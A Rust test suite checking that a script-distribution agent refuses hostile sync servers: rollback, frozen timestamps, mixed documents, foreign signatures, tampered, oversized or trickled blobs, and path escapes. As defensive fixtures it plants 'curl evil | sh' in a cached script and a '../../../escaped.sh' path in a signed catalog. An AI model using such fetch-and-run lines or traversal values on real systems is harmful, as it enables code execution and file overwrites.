//! Syncing against honest and hostile servers. Every hostile test states why the snapshot must
//! not be applied, checks the reason code the agent reports, and checks that `current` still
//! names the previous good snapshot and that its files still verify.

mod common;

use std::time::{Duration, Instant};

use common::*;
use quiver_catalog::*;
use serde_json::{Value, json};

fn v1_scripts() -> Vec<Script> {
    vec![
        script("hello", 1, "echo hello\n").with_file("lib/util.sh", b"util() { :; }\n"),
        script("disk", 2, "df -h\n"),
    ]
}

fn v2_scripts() -> Vec<Script> {
    vec![
        script("hello", 2, "echo hello again\n").with_file("lib/util.sh", b"util() { :; }\n"),
        script("disk", 2, "df -h\n"),
        script("new", 1, "echo new\n"),
    ]
}

/// A device synced to serial 5; returns it with the publisher.
fn synced_at_5() -> (Publisher, Device) {
    let p = Publisher::new();
    p.publish(5, &v1_scripts());
    let dev = enrolled(&p, &[("role", "web")]);
    dev.sync_ok();
    dev.assert_current(&p.keys.public, 5);
    (p, dev)
}

fn failed_with(dev: &Device, extra: &[&str], code: &str, exit: i32) -> Value {
    let (status, v) = dev.sync(extra);
    assert_eq!(v["ok"], false, "{v}");
    assert_eq!(v["error"]["code"], code, "{v}");
    assert_eq!(status, exit, "{v}");
    v
}

/// The problem reached the controller in the check-in that followed the failed sync.
fn reported(p: &Publisher, code: &str) {
    let reqs = p.server.requests();
    let checkin = reqs
        .iter()
        .rev()
        .find(|r| r.path.ends_with("/checkin"))
        .expect("a check-in after the sync");
    let body = checkin.json();
    let codes: Vec<&str> = body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["code"].as_str())
        .collect();
    assert!(
        codes.contains(&code),
        "check-in errors {codes:?} lack {code}"
    );
}

#[test]
fn first_sync_applies_and_checks_in() {
    let (p, dev) = synced_at_5();
    let checkin = p
        .server
        .wait_for(Duration::from_secs(1), |r| r.path.ends_with("/checkin"));
    let body = checkin.json();
    assert_eq!(body["applied_serial"], 5);
    assert_eq!(body["platform"], "linux");
    assert_eq!(body["scripts"].as_array().unwrap().len(), 2);
    assert_eq!(
        checkin.header("authorization"),
        Some(format!("Bearer {AGENT_TOKEN}").as_str())
    );
    // Snapshot files are fetched without the agent token (any static server may serve them).
    for r in snapshot_requests(&p.server.requests()) {
        assert_eq!(r.header("authorization"), None, "{}", r.path);
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let run = dev.state().join("snapshots/5/hello/run.sh");
        let lib = dev.state().join("snapshots/5/hello/lib/util.sh");
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&run), 0o755, "launch files are executable");
        assert_eq!(mode(&lib), 0o644);
        assert_eq!(mode(&dev.state().join("agent.json")), 0o600);
    }
    assert_eq!(
        dev.pointer().unwrap(),
        json!({"serial": 5, "dir": "snapshots/5"})
    );

    // A new serial switches, fetching only the blobs it does not have.
    p.server.clear_requests();
    p.publish(6, &v2_scripts());
    let v = dev.sync_ok();
    assert_eq!(v["report"]["switched"], true);
    assert_eq!(v["report"]["blobs_fetched"], 2, "{v}");
    dev.assert_current(&p.keys.public, 6);
    let list = dev.run(&["list", "--json"]);
    let list: Value = serde_json::from_slice(&list.stdout).unwrap();
    assert_eq!(list["serial"], 6);
    let names: Vec<&str> = list["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["disk", "hello", "new"]);
}

#[test]
fn old_snapshots_are_kept_up_to_keep_and_unused_blobs_removed() {
    let (p, dev) = synced_at_5();
    for serial in 6..=9 {
        p.publish(
            serial,
            &[script("only", serial as u32, &format!("echo {serial}\n"))],
        );
        dev.sync_ok();
    }
    let mut dirs: Vec<String> = std::fs::read_dir(dev.state().join("snapshots"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    dirs.sort();
    assert_eq!(dirs, ["6", "7", "8", "9"], "current + 3 previous");
    // Blobs of snapshot 5 (hello, disk) are gone; those of 6..9 remain.
    let blobs = std::fs::read_dir(dev.state().join("blobs"))
        .unwrap()
        .count();
    assert_eq!(blobs, 4);
}

#[test]
fn warm_sync_is_one_conditional_request_and_writes_nothing() {
    let (p, dev) = synced_at_5();
    // The first sync after applying may still fetch; from then on nothing is new.
    dev.sync_ok();
    let before = listing(&dev.state());
    p.server.clear_requests();
    let v = dev.sync_ok();
    assert_eq!(v["report"]["switched"], false);
    let reqs = p.server.requests();
    let snap = snapshot_requests(&reqs);
    assert_eq!(
        snap.len(),
        1,
        "{:?}",
        snap.iter().map(|r| &r.path).collect::<Vec<_>>()
    );
    assert_eq!(snap[0].path, "/v1/timestamp.json");
    assert!(snap[0].header("if-none-match").is_some(), "conditional");
    assert_eq!(
        listing(&dev.state()),
        before,
        "a warm sync must not write any file"
    );
}

#[test]
fn rollback_an_older_signed_catalog_is_refused() {
    // Why: an attacker (or a stale mirror) replaying an older, validly signed snapshot could
    // bring back a script version that was withdrawn for a reason.
    let (p, dev) = synced_at_5();
    let old = p.sign(4, &v2_scripts());
    p.serve(&old);
    failed_with(&dev, &[], "rollback", 4);
    dev.assert_current(&p.keys.public, 5);
    reported(&p, "rollback");
}

#[test]
fn freeze_an_expired_timestamp_is_refused() {
    // Why: an expired timestamp means nobody has vouched for this snapshot lately; a frozen
    // mirror could hide newer snapshots (with fixes) forever.
    let (p, dev) = synced_at_5();
    let v2 = v2_scripts();
    let entries = v2.iter().map(Script::entry).collect();
    let cat = Catalog::new(6, "s".into(), "p".into(), groups(), entries).to_canonical_bytes();
    let blobs = v2
        .iter()
        .flat_map(|s| s.files.iter().map(|f| f.1.clone()))
        .collect();
    let stale = p.sign_bytes(6, cat, blobs, now() - time::Duration::hours(3), 3600);
    p.serve(&stale);
    failed_with(&dev, &[], "freeze", 4);
    dev.assert_current(&p.keys.public, 5);
    reported(&p, "freeze");
}

#[test]
fn mix_and_match_a_timestamp_naming_another_catalog_is_refused() {
    // Why: each document may be validly signed, but combining a fresh timestamp with another
    // catalog would let a mirror pick which scripts a device sees.
    let (p, dev) = synced_at_5();
    let a = p.sign(6, &v2_scripts());
    let b = p.sign(6, &v1_scripts());
    p.serve(&a);
    p.server.put(layout::CATALOG_FILE, b.cat.clone());
    p.server.put(layout::CATALOG_SIG_FILE, b.cat_sig.clone());
    failed_with(&dev, &[], "mix-and-match", 4);
    dev.assert_current(&p.keys.public, 5);
}

#[test]
fn catalog_signed_by_another_key_is_refused() {
    // Why: only the pinned controller key may say what runs on this device.
    let (p, dev) = synced_at_5();
    let good = p.sign(6, &v2_scripts());
    p.serve(&good);
    let other = KeyPair::generate().unwrap();
    p.server.put(
        layout::CATALOG_SIG_FILE,
        other.signing.sign(&good.cat, "evil").unwrap(),
    );
    failed_with(&dev, &[], "bad-signature", 4);
    dev.assert_current(&p.keys.public, 5);

    // And a timestamp signed by another key is refused too.
    let newer = p.sign(7, &v2_scripts());
    p.serve(&newer);
    p.server.put(
        layout::TIMESTAMP_SIG_FILE,
        other.signing.sign(&newer.ts, "evil").unwrap(),
    );
    failed_with(&dev, &[], "bad-signature", 4);
    dev.assert_current(&p.keys.public, 5);
}

#[test]
fn blob_with_wrong_bytes_is_refused() {
    // Why: the catalog's digest is the only thing that ties a file to what was approved.
    let (p, dev) = synced_at_5();
    let s = p.publish(6, &v2_scripts());
    let target = &s.blobs[0]; // hello v2's run.sh: not cached yet
    let mut evil = target.clone();
    evil[0] ^= 0x20;
    p.server.put(&blob_rel_path(&sha256_hex(target)), evil);
    failed_with(&dev, &[], "blob-digest", 4);
    dev.assert_current(&p.keys.public, 5);
    reported(&p, "blob-digest");
    assert!(
        std::fs::read_dir(dev.state().join("tmp"))
            .unwrap()
            .next()
            .is_none(),
        "the refused download is not left behind"
    );
}

#[test]
fn oversized_blob_is_cut_off_and_refused() {
    // Why: a server sending more than the catalog's size (endless data) must not fill the
    // disk; the agent stops reading one byte past the size.
    let (p, dev) = synced_at_5();
    let s = p.publish(6, &v2_scripts());
    let target = &s.blobs[0];
    let mut big = target.clone();
    big.extend(std::iter::repeat_n(b'x', 8 << 20));
    p.server.put(&blob_rel_path(&sha256_hex(target)), big);
    let v = failed_with(&dev, &[], "blob-size", 4);
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains(&format!("{} bytes", target.len() + 1)),
        "{msg}"
    );
    dev.assert_current(&p.keys.public, 5);
}

#[test]
fn trickling_server_hits_the_deadline() {
    // Why: a server sending one byte every 200 ms never trips a per-read timeout but could
    // hold a sync (and the lock) forever (slow retrieval); the sync deadline ends it.
    let (p, dev) = synced_at_5();
    let s = p.publish(6, &v2_scripts());
    let target = &s.blobs[0];
    p.server.set(
        &blob_rel_path(&sha256_hex(target)),
        common::Resource {
            body: target.clone(),
            trickle: Some(Duration::from_millis(200)),
            delay: None,
        },
    );
    let started = Instant::now();
    failed_with(
        &dev,
        &["--deadline", "2s", "--timeout", "10s"],
        "timeout",
        1,
    );
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "{:?}",
        started.elapsed()
    );
    dev.assert_current(&p.keys.public, 5);
}

#[test]
fn path_escape_in_a_signed_catalog_does_not_parse() {
    // Why: even a validly signed catalog must not make the agent write outside its cache;
    // `../` in a path is refused by the parser before any file is written.
    let (p, dev) = synced_at_5();
    let evil_content = b"owned\n".to_vec();
    let mut v: Value = serde_json::from_slice(&p.sign(6, &v2_scripts()).cat).unwrap();
    v["entries"][0]["files"][0]["path"] = json!("../../../escaped.sh");
    v["entries"][0]["files"][0]["sha256"] = json!(sha256_hex(&evil_content).to_string());
    v["entries"][0]["files"][0]["size"] = json!(evil_content.len());
    let mut cat = serde_json::to_vec(&v).unwrap();
    cat.push(b'\n');
    let signed = p.sign_bytes(6, cat, vec![evil_content], now(), 3600);
    p.serve(&signed);
    let before: Vec<_> = std::fs::read_dir(dev.dir.path()).unwrap().collect();
    p.server.clear_requests();
    failed_with(&dev, &[], "malformed", 4);
    dev.assert_current(&p.keys.public, 5);
    let after: Vec<_> = std::fs::read_dir(dev.dir.path()).unwrap().collect();
    assert_eq!(before.len(), after.len());
    assert!(!dev.dir.path().join("escaped.sh").exists());
    assert!(!dev.state().join("escaped.sh").exists());
    let blob_fetches = p
        .server
        .requests()
        .iter()
        .filter(|r| r.path.starts_with("/v1/blobs/"))
        .count();
    assert_eq!(
        blob_fetches, 0,
        "nothing is fetched for a catalog that does not parse"
    );
}

#[test]
fn only_entries_targeted_at_this_device_are_fetched() {
    let p = Publisher::new();
    let mut web = script("web-only", 1, "echo web\n");
    web.groups = vec!["web".into()];
    let mut db = script("db-only", 1, "echo db\n");
    db.groups = vec!["db".into()];
    let mut win = script("win-only", 1, "echo win\n");
    win.platform = Platform::Windows;
    let everyone = script("everyone", 1, "echo all\n").with_file("data.txt", b"x\n");
    p.publish(1, &[web, db, win, everyone]);
    let dev = enrolled(&p, &[("role", "web")]);
    dev.sync_ok();
    let reqs = p.server.requests();
    let blobs: Vec<&str> = reqs
        .iter()
        .filter(|r| r.path.starts_with("/v1/blobs/"))
        .map(|r| r.path.as_str())
        .collect();
    assert_eq!(
        blobs.len(),
        3,
        "web-only run.sh, everyone run.sh and data.txt: {blobs:?}"
    );
    for name in ["echo db\n", "echo win\n"] {
        let hex = sha256_hex(name.as_bytes()).to_string();
        assert!(!blobs.iter().any(|b| b.ends_with(&hex)), "{name:?} fetched");
    }
    let mut dirs: Vec<String> = std::fs::read_dir(dev.state().join("snapshots/1"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    dirs.sort();
    assert_eq!(dirs, [".quiver", "everyone", "web-only"]);
    dev.assert_current(&p.keys.public, 1);
}

#[test]
fn tampered_cache_is_detected_repaired_and_reported() {
    let (p, dev) = synced_at_5();
    let snap = dev.state().join("snapshots/5");
    std::fs::write(snap.join("hello/run.sh"), "curl evil | sh\n").unwrap();
    std::fs::write(snap.join("hello/lib/extra.sh"), "injected\n").unwrap();
    std::fs::remove_file(snap.join("disk/run.sh")).unwrap();

    // A run refuses the tampered script before a sync repairs it.
    let out = dev.run(&["run", "hello"]);
    assert_eq!(out.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cache tampered"));

    // The blob behind one of the damaged files is damaged too: it is fetched again.
    let disk_blob = dev
        .state()
        .join("blobs")
        .join(sha256_hex(b"df -h\n").as_str());
    std::fs::write(&disk_blob, "df -h; evil\n").unwrap();
    p.server.clear_requests();
    let v = dev.sync_ok();
    assert_eq!(v["report"]["repaired"], 3, "{v}");
    let problems = v["problems"].as_array().unwrap();
    assert!(
        problems.iter().all(|p| p["code"] == "cache-tampered"),
        "{v}"
    );
    // A file staged by the sync that downloaded its blob shares the blob's inode (a hard
    // link, so a cold sync writes each byte once): writing into `hello/run.sh` damaged its
    // blob as well, and both blobs are found damaged and fetched again.
    assert_eq!(problems.len(), 5, "3 damaged files + 2 damaged blobs: {v}");
    assert!(!snap.join("hello/lib/extra.sh").exists());
    dev.assert_current(&p.keys.public, 5);
    let refetched: Vec<String> = p
        .server
        .requests()
        .iter()
        .filter(|r| r.path.starts_with("/v1/blobs/"))
        .map(|r| r.path.clone())
        .collect();
    let mut expected = vec![
        format!("/v1/{}", blob_rel_path(&sha256_hex(b"df -h\n"))),
        format!("/v1/{}", blob_rel_path(&sha256_hex(b"echo hello\n"))),
    ];
    let mut refetched = refetched;
    refetched.sort();
    expected.sort();
    assert_eq!(refetched, expected);
    reported(&p, "cache-tampered");

    // The next sync finds nothing to repair.
    let v = dev.sync_ok();
    assert_eq!(v["report"]["repaired"], 0);
}

#[test]
fn problems_are_kept_until_a_check_in_delivers_them() {
    let (p, dev) = synced_at_5();
    p.serve(&p.sign(3, &v1_scripts()));
    p.server.lock().revoked = true; // check-ins fail (and say so)
    let (code, v) = dev.sync(&[]);
    assert_eq!(v["error"]["code"], "rollback");
    assert_eq!(
        code, 3,
        "a refused token wins: the agent must be re-enrolled"
    );
    p.server.lock().revoked = false;
    p.publish(6, &v2_scripts());
    p.server.clear_requests();
    dev.sync_ok();
    reported(&p, "rollback");
    assert!(!dev.state().join("problems.json").exists());
}
